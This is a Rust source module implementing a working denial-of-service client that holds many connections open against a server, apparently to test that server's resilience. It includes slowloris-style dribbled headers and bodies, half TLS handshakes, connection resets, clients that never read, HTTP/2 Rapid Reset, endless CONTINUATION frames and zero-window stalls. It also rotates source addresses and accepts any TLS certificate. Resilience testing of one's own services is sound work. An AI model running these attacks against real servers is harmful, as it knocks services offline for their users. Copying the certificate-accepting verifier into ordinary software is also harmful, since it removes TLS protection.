//! Connections that want to keep a server busy.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use rustls::{
    ClientConfig, DigitallySignedStruct, SignatureScheme,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    pki_types::{CertificateDer, ServerName, UnixTime},
};
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{sleep, timeout},
};
use tokio_rustls::TlsConnector;

use crate::source;

/// What a connection does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// It sends nothing.
    Silent,
    /// It sends a half of a head.
    HalfHead,
    /// It sends a head, one byte at a time.
    DribbledHead,
    /// It sends a head that announces a body, and no body.
    NoBody,
    /// It sends a body, one byte at a time.
    DribbledBody,
    /// It closes its sending side in the middle of a head.
    HalfClosed,
    /// It sends a half of a head and resets the connection, again and again.
    Reset,
    /// It sends many requests and reads no response.
    NotReading,
    /// It sends one request, reads the response and keeps the connection.
    Idle,
    /// It sends a half of a TLS handshake.
    HalfHandshake,
    /// It chooses HTTP/2 and sends only its preface.
    PrefaceOnly,
    /// It sends HTTP/2 requests and resets each at once.
    RapidReset,
    /// It sends the headers of an HTTP/2 request without an end.
    EndlessContinuation,
    /// It sends HTTP/2 requests and gives the server no window for the responses.
    NoWindow,
}

impl Kind {
    /// The kinds that need no TLS.
    pub const PLAIN: [Self; 9] = [
        Self::Silent,
        Self::HalfHead,
        Self::DribbledHead,
        Self::NoBody,
        Self::DribbledBody,
        Self::HalfClosed,
        Self::Reset,
        Self::NotReading,
        Self::Idle,
    ];

    /// The kinds with TLS, and with HTTP/2 over TLS.
    pub const ENCRYPTED: [Self; 10] = [
        Self::Silent,
        Self::HalfHandshake,
        Self::HalfHead,
        Self::DribbledHead,
        Self::NoBody,
        Self::Idle,
        Self::PrefaceOnly,
        Self::RapidReset,
        Self::EndlessContinuation,
        Self::NoWindow,
    ];

    /// The kinds that reach a server behind a proxy that streams bodies.
    pub const THROUGH_A_PROXY: [Self; 5] =
        [Self::NoBody, Self::DribbledBody, Self::Reset, Self::NotReading, Self::Idle];

    fn is_http_2(self) -> bool {
        matches!(self, Self::PrefaceOnly | Self::RapidReset | Self::EndlessContinuation | Self::NoWindow)
    }
}

/// The server that is attacked.
#[derive(Clone, Copy)]
pub struct Place {
    address: SocketAddr,
    /// Whether the server speaks TLS.
    pub is_encrypted: bool,
}

impl Place {
    pub fn plain(address: SocketAddr) -> Self {
        Self { address, is_encrypted: false }
    }

    pub fn encrypted(address: SocketAddr) -> Self {
        Self { address, is_encrypted: true }
    }
}

/// The pause before a connection that the server closed is made again.
const AGAIN: Duration = Duration::from_secs(10);

/// A running attack. It ends when it is dropped.
pub struct Attack {
    counts: Arc<Counts>,
    _tasks: JoinSet<()>,
}

#[derive(Default)]
struct Counts {
    reached: AtomicUsize,
    connected: AtomicUsize,
}

impl Attack {
    /// Keeps `connections` open, of all `kinds` in turn, from this number of addresses. A connection that the server closes is
    /// made again.
    pub fn start(place: Place, kinds: &[Kind], connections: usize, sources: usize) -> Self {
        let counts = Arc::new(Counts::default());
        let mut tasks = JoinSet::new();
        for number in 0..connections {
            let (kind, counts) = (kinds[number % kinds.len()], Arc::clone(&counts));
            tasks.spawn(async move {
                loop {
                    if let Some(stream) = connect(place.address, source(number % sources)).await {
                        counts.reached.fetch_add(1, Ordering::Relaxed);
                        counts.connected.fetch_add(1, Ordering::Relaxed);
                        keep_busy(stream, place, kind).await;
                        counts.connected.fetch_sub(1, Ordering::Relaxed);
                    }
                    // At different times, so that not all of them shake hands at once.
                    sleep(AGAIN + Duration::from_millis(number as u64 * 2)).await;
                }
            });
        }
        Self { counts, _tasks: tasks }
    }

    /// Returns the number of connections that were made so far.
    pub fn reached(&self) -> usize {
        self.counts.reached.load(Ordering::Relaxed)
    }

    /// Returns the number of connections that are open now.
    pub fn connected(&self) -> usize {
        self.counts.connected.load(Ordering::Relaxed)
    }
}

async fn connect(address: SocketAddr, from: SocketAddr) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(from).ok()?;
    timeout(Duration::from_secs(5), socket.connect(address)).await.ok()?.ok()
}

/// Keeps the server busy with one connection, until the server closes it.
async fn keep_busy(mut stream: TcpStream, place: Place, kind: Kind) {
    match kind {
        Kind::Silent => until_closed(&mut stream).await,
        Kind::HalfHandshake => {
            // The record of a ClientHello of 512 bytes, of which only the beginning comes.
            stream.write_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03").await.ok();
            until_closed(&mut stream).await;
        }
        Kind::Reset => {
            stream.write_all(b"POST /auth/login HTTP/1.1\r\nHost: lo").await.ok();
            // A connection with this option is reset when it is closed.
            stream.set_zero_linger().ok();
        }
        _ if place.is_encrypted => {
            if let Some(mut stream) = encrypt(stream, kind.is_http_2()).await {
                speak(&mut stream, kind).await;
            }
        }
        _ => speak(&mut stream, kind).await,
    }
}

/// Sends what the kind says.
async fn speak<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, kind: Kind) {
    match kind {
        Kind::HalfHead => drop(stream.write_all(b"GET /health HTTP/1.1\r\nHost: lo").await),
        Kind::DribbledHead => {
            stream.write_all(b"GET /health HTTP/1.1\r\nX-Long: ").await.ok();
            return dribble(stream).await;
        }
        Kind::NoBody => drop(stream.write_all(HEAD).await),
        Kind::DribbledBody => {
            stream.write_all(HEAD).await.ok();
            return dribble(stream).await;
        }
        Kind::HalfClosed => {
            stream.write_all(b"GET /health HTTP/1.1\r\nHost: lo").await.ok();
            stream.shutdown().await.ok();
        }
        Kind::NotReading => {
            let request = "GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(50);
            // Nothing is read, so the write ends when all buffers are full.
            timeout(Duration::from_secs(60), stream.write_all(request.as_bytes())).await.ok();
            sleep(Duration::from_secs(60)).await;
            return;
        }
        Kind::Idle => drop(stream.write_all(b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n").await),
        Kind::PrefaceOnly => drop(stream.write_all(&[PREFACE, &frame(4, 0, 0, &[])].concat()).await),
        Kind::NoWindow => {
            // SETTINGS_INITIAL_WINDOW_SIZE = 0 (RFC 9113 §6.5.2).
            let settings = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
            let requests = (0..60).map(|number| headers(number * 2 + 1, 5));
            stream.write_all(&[PREFACE, &settings, &requests.collect::<Vec<_>>().concat()].concat()).await.ok();
        }
        Kind::RapidReset => {
            stream.write_all(&[PREFACE, &frame(4, 0, 0, &[])].concat()).await.ok();
            for number in 0..100_000 {
                let stream_id = number * 2 + 1;
                let both = [headers(stream_id, 5), frame(3, 0, stream_id, &[0, 0, 0, 8])].concat();
                if stream.write_all(&both).await.is_err() {
                    return;
                }
            }
        }
        Kind::EndlessContinuation => {
            stream.write_all(&[PREFACE, &frame(4, 0, 0, &[]), &headers(1, 1)].concat()).await.ok();
            // A header `a: a`, as a literal that is not indexed.
            let more = frame(9, 0, 1, &b"\x00\x01a\x01a".repeat(200));
            while stream.write_all(&more).await.is_ok() {
                sleep(Duration::from_millis(20)).await;
            }
            return;
        }
        Kind::Silent | Kind::Reset | Kind::HalfHandshake => {}
    }
    until_closed(stream).await;
}

const HEAD: &[u8] =
    b"POST /auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n";

/// The preface of an HTTP/2 client (RFC 9113 §3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Returns an HTTP/2 frame (RFC 9113 §4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a small frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Returns the frame of a `GET /openapi.json`: method, scheme and authority from the static table of HPACK, and the path.
fn headers(stream: u32, flags: u8) -> Vec<u8> {
    frame(1, flags, stream, b"\x82\x87\x04\x0d/openapi.json\x41\x09localhost")
}

/// Sends a byte twice a second, until the server closes the connection.
async fn dribble<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S) {
    while stream.write_all(b"a").await.is_ok() {
        sleep(Duration::from_millis(500)).await;
    }
}

/// Reads until the server closes the connection.
async fn until_closed<S: AsyncRead + Unpin>(stream: &mut S) {
    let mut bytes = [0; 4096];
    while matches!(stream.read(&mut bytes).await, Ok(read) if read > 0) {}
}

async fn encrypt(stream: TcpStream, is_http_2: bool) -> Option<tokio_rustls::client::TlsStream<TcpStream>> {
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let mut config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .ok()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyCertificate))
        .with_no_client_auth();
    config.alpn_protocols = vec![if is_http_2 { b"h2".to_vec() } else { b"http/1.1".to_vec() }];
    let name = ServerName::try_from("localhost").ok()?;
    timeout(Duration::from_secs(20), TlsConnector::from(Arc::new(config)).connect(name, stream)).await.ok()?.ok()
}

/// An attacker does not check the certificate, which saves time.
#[derive(Debug)]
struct AnyCertificate;

impl ServerCertVerifier for AnyCertificate {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        vec![SignatureScheme::ECDSA_NISTP256_SHA256, SignatureScheme::ED25519, SignatureScheme::RSA_PSS_SHA256]
    }
}
